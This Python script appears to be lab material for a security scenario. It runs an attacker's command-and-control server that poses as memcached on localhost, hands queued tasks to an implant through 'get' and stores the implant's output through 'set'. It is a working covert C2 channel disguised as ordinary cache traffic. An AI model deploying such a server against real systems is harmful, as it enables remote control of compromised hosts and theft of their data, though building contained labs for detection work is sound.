#!/usr/bin/env python3
"""The attacker's C2 of scenario-stillroom-savedview: a server speaking the
memcached text protocol (127.0.0.1:11411, run as labremote). The implant's
"get t.<host>" returns the next queued task (files DIR/tasks/NNN, in order;
"END" when none is queued); its "set o.<host>.<n> 0 0 <len>" stores the n-th
output as DIR/out/NNN ("STORED"). Every command is logged with its size.
Stops after --max-seconds.
  stillroom-c2.py DIR [--port 11411] [--max-seconds 900]
"""
import argparse, os, socketserver, sys, threading, time

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("dir"); ap.add_argument("--port", type=int, default=11411); ap.add_argument("--max-seconds", type=int, default=900)
    a = ap.parse_args()
    tasks, outd = os.path.join(a.dir, "tasks"), os.path.join(a.dir, "out")
    os.makedirs(tasks, exist_ok=True); os.makedirs(outd, exist_ok=True)
    logf = open(os.path.join(a.dir, "c2.log"), "a", buffering=1)
    served = set()
    lock = threading.Lock()

    def log(msg):
        logf.write("%s %s\n" % (time.strftime("%H:%M:%S", time.gmtime()), msg))

    class H(socketserver.StreamRequestHandler):
        def handle(self):
            log("connection from %s:%d" % self.client_address)
            while True:
                line = self.rfile.readline()
                if not line:
                    log("closed"); return
                parts = line.decode("utf-8", "replace").strip().split()
                if not parts:
                    continue
                if parts[0] == "get":
                    with lock:
                        nxt = next((n for n in sorted(os.listdir(tasks)) if n not in served), None)
                        if nxt:
                            served.add(nxt)
                    if nxt:
                        data = open(os.path.join(tasks, nxt), "rb").read().rstrip(b"\n")
                        log("get %s -> task %s (%d bytes)" % (parts[1], nxt, len(data)))
                        self.wfile.write(b"VALUE %s 0 %d\r\n" % (parts[1].encode(), len(data)) + data + b"\r\nEND\r\n")
                    else:
                        self.wfile.write(b"END\r\n")
                elif parts[0] == "set" and len(parts) >= 5:
                    n = int(parts[4]); data = self.rfile.read(n); self.rfile.readline()
                    idx = "%03d" % int(parts[1].rsplit(".", 1)[1])
                    open(os.path.join(outd, idx), "wb").write(data)
                    log("set %s (%d bytes) -> out/%s" % (parts[1], n, idx))
                    self.wfile.write(b"STORED\r\n")
                elif parts[0] == "version":
                    self.wfile.write(b"VERSION 1.6.18\r\n")
                else:
                    self.wfile.write(b"ERROR\r\n")

    class S(socketserver.ThreadingTCPServer):
        allow_reuse_address = True
        daemon_threads = True

    srv = S(("127.0.0.1", a.port), H)
    threading.Timer(a.max_seconds, srv.shutdown).start()
    log("listening on 127.0.0.1:%d" % a.port)
    srv.serve_forever()

if __name__ == "__main__":
    main()
